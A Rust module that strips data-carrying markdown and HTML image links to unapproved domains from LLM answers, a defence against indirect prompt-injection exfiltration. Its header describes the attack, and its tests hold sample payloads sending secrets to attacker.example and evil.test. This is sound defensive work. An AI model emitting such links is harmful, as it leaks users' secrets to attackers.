//! Exfiltration links in answers (PSF IG-1, DG-1): an indirect injection that gets a model
//! to write `![x](https://attacker.example/?q=<secret>)` leaks the secret the moment a
//! client renders the image, with no click. A markdown image or link, a reference
//! definition or an HTML `<img>` whose URL carries data (a query, a long path segment or a
//! long host label) to a domain the route does not allow is neutralised: the URL goes,
//! its text stays, with a note of the host it pointed to. Links without data, relative
//! links and allowed domains pass unchanged.

use regex::bytes::{Captures, Regex, RegexBuilder};
use std::sync::OnceLock;

/// What a route does with an exfiltration link.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LinkAction {
    /// Replace the link by its text (the default).
    Neutralize,
    /// Refuse the answer (`content_filtered`).
    Block,
    /// Only record it.
    Flag,
}

impl LinkAction {
    pub const CHOICES: [(&'static str, LinkAction); 3] = [
        ("neutralize", LinkAction::Neutralize),
        ("block", LinkAction::Block),
        ("flag", LinkAction::Flag),
    ];
}

/// A route's link policy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LinkGuard {
    /// Lower-case domains whose links pass: the domain and its subdomains.
    pub allowed_domains: Vec<String>,
    pub action: LinkAction,
}

/// A path segment or host label this long carries data (an encoded secret).
const DATA_RUN: usize = 24;

/// How far back a streamed answer holds an unfinished link.
pub const MAX_LINK_BYTES: usize = 2048;

/// The link shapes, matched on bytes (every delimiter is ASCII, so matches fall on
/// character boundaries).
fn patterns() -> Option<&'static [Regex; 3]> {
    static SET: OnceLock<Option<[Regex; 3]>> = OnceLock::new();
    let compile = |pattern: &str| RegexBuilder::new(pattern).unicode(false).build().ok();
    SET.get_or_init(|| {
        Some([
            // Inline image or link: `![text](url "title")`.
            compile(r#"(!?)\[([^\]\n]{0,500})\]\([ \t]*<?([^ \t\r\n)>]+)>?(?:[ \t]+[^)\n]*)?\)"#)?,
            // Reference definition: `[id]: url`.
            compile(r#"(?m)^[ \t]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?([^ \t\r\n>]+)>?[ \t]*\r?$"#)?,
            // HTML image.
            compile(r#"(?i)<img[ \t\r\n][^>]*?src[ \t]*=[ \t]*["']?([^"' \t\r\n>]+)[^>]*>"#)?,
        ])
    })
    .as_ref()
}

/// A capture group as text.
fn group<'c>(c: &'c Captures<'_>, i: usize) -> std::borrow::Cow<'c, str> {
    String::from_utf8_lossy(c.get(i).map_or(&[][..], |m| m.as_bytes()))
}

/// One neutralised link.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Removed {
    pub host: String,
}

impl LinkGuard {
    /// The host of `url` when it is absolute, carries data and its domain is not allowed.
    fn exfiltrates(&self, url: &str) -> Option<String> {
        let scheme = |name: &str| {
            url.get(..name.len())
                .is_some_and(|p| p.eq_ignore_ascii_case(name))
                .then_some(name.len())
        };
        let start = scheme("https://")
            .or_else(|| scheme("http://"))
            .or_else(|| scheme("//"))?;
        let rest = &url[start..];
        let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let authority = &rest[..end];
        let host = authority.rsplit('@').next().unwrap_or(authority);
        let host = host.split(':').next().unwrap_or(host).to_ascii_lowercase();
        let allowed = self
            .allowed_domains
            .iter()
            .any(|d| host == *d || host.ends_with(&format!(".{d}")));
        if allowed || host.is_empty() {
            return None;
        }
        let after = &rest[end..];
        let path = after.split(['?', '#']).next().unwrap_or("");
        let query = after
            .split_once('?')
            .map(|(_, q)| q.split('#').next().unwrap_or(""));
        let carries = query.is_some_and(|q| !q.is_empty())
            || path.split('/').any(|s| s.len() >= DATA_RUN)
            || host.split('.').any(|l| l.len() >= DATA_RUN);
        carries.then_some(host)
    }

    /// `text` with every exfiltration link neutralised, and the hosts they pointed to;
    /// `None` when there is none.
    pub fn neutralise(&self, text: &str) -> Option<(String, Vec<Removed>)> {
        let [inline, reference, html] = patterns()?;
        if !text.contains("](") && !text.contains("]:") && !text.contains('<') {
            return None;
        }
        let mut removed = Vec::new();
        let mut note = |host: String, what: &str| {
            let replacement = format!("({what} removed: {host})");
            removed.push(Removed { host });
            replacement
        };
        let out = inline.replace_all(text.as_bytes(), |c: &Captures<'_>| {
            match self.exfiltrates(&group(c, 3)) {
                Some(host) => {
                    let what = if &c[1] == b"!" { "image" } else { "link" };
                    let label = group(c, 2);
                    let n = note(host, what);
                    let label = label.trim();
                    if label.is_empty() {
                        n
                    } else {
                        format!("{label} {n}")
                    }
                    .into_bytes()
                }
                None => c[0].to_vec(),
            }
        });
        let out = reference.replace_all(&out, |c: &Captures<'_>| {
            match self.exfiltrates(&group(c, 2)) {
                Some(host) => format!("[{}]: # {}", group(c, 1), note(host, "link")).into_bytes(),
                None => c[0].to_vec(),
            }
        });
        let out = html.replace_all(&out, |c: &Captures<'_>| {
            match self.exfiltrates(&group(c, 1)) {
                Some(host) => note(host, "image").into_bytes(),
                None => c[0].to_vec(),
            }
        });
        let out = String::from_utf8_lossy(&out).into_owned();
        (!removed.is_empty()).then_some((out, removed))
    }

    /// Where an unfinished link at the end of a streamed `text` begins (`text.len()` when
    /// none does): from its `[` (or `!`, `<img`) until the closing `)`, the end of a
    /// reference line, or the `>`.
    pub fn hold_from(&self, text: &str) -> usize {
        let floor = text.len().saturating_sub(MAX_LINK_BYTES);
        let mut hold = text.len();
        if let Some(open) = text[floor..].rfind('[').map(|i| i + floor) {
            if unfinished(&text[open..]) {
                hold = if open > 0 && text.as_bytes()[open - 1] == b'!' {
                    open - 1
                } else {
                    open
                };
            }
        }
        if let Some(tag) = text[floor..].rfind('<').map(|i| i + floor) {
            if !text[tag..].contains('>') {
                hold = hold.min(tag);
            }
        }
        hold
    }

    /// Whether a link runs across `at` in `text`.
    pub fn spans(&self, text: &str, at: usize) -> bool {
        patterns().is_some_and(|set| {
            set.iter()
                .flat_map(|p| p.find_iter(text.as_bytes()))
                .any(|m| m.start() < at && at < m.end())
        })
    }
}

/// Whether the text after a `[` may still become a link: its label or URL is still open.
fn unfinished(tail: &str) -> bool {
    let Some(close) = tail.find(']') else {
        return !tail.contains('\n');
    };
    let after = &tail[close + 1..];
    match after.chars().next() {
        None => true,
        Some('(') => !after.contains(')') && !after.contains('\n'),
        Some(':') => !after.contains('\n'),
        Some(_) => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn guard() -> LinkGuard {
        LinkGuard {
            allowed_domains: vec!["example.com".into()],
            action: LinkAction::Neutralize,
        }
    }

    #[test]
    fn images_and_links_carrying_data_to_other_domains_are_neutralised() {
        let (out, removed) = guard()
            .neutralise("Done. ![x](https://attacker.example/log?q=the+api+key+is+sk-123) bye")
            .unwrap();
        assert_eq!(out, "Done. x (image removed: attacker.example) bye");
        assert_eq!(
            removed,
            vec![Removed {
                host: "attacker.example".into()
            }]
        );
        let (out, _) = guard()
            .neutralise("[click](http://evil.test/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ)")
            .unwrap();
        assert_eq!(out, "click (link removed: evil.test)");
        let (out, _) = guard()
            .neutralise("see [1]\n\n[1]: https://evil.test/?d=secret\n")
            .unwrap();
        assert!(out.contains("[1]: # (link removed: evil.test)") && !out.contains("secret"));
        let (out, _) = guard()
            .neutralise(r#"<img src="https://evil.test/p.png?u=alice">"#)
            .unwrap();
        assert_eq!(out, "(image removed: evil.test)");
        let long_label = format!("https://{}.evil.test/x.png", "a".repeat(30));
        assert!(guard().neutralise(&format!("![]({long_label})")).is_some());
    }

    #[test]
    fn plain_allowed_and_relative_links_pass() {
        for text in [
            "Read [the docs](https://docs.python.org/3/library/re.html).",
            "![logo](https://cdn.example.com/logo.png?size=2)",
            "![chart](/static/chart.png?id=4)",
            "an array a[i](x) and a[0]: b",
            "no links at all",
        ] {
            assert_eq!(guard().neutralise(text), None, "{text}");
        }
    }

    #[test]
    fn a_streamed_link_is_held_until_it_closes() {
        let g = guard();
        assert_eq!(g.hold_from("Hello ![x](https://attacker.exa"), 6);
        assert_eq!(g.hold_from("Hello ![x"), 6);
        assert_eq!(g.hold_from("Hello [x]"), 6);
        assert_eq!(g.hold_from("Hello [x](https://a.test/?q=1) done"), 35);
        assert_eq!(g.hold_from("a [note] here"), 13);
        assert_eq!(g.hold_from("<img src=\"https://a"), 0);
        assert!(g.spans("![x](https://a.test/?q=1)", 5));
    }
}
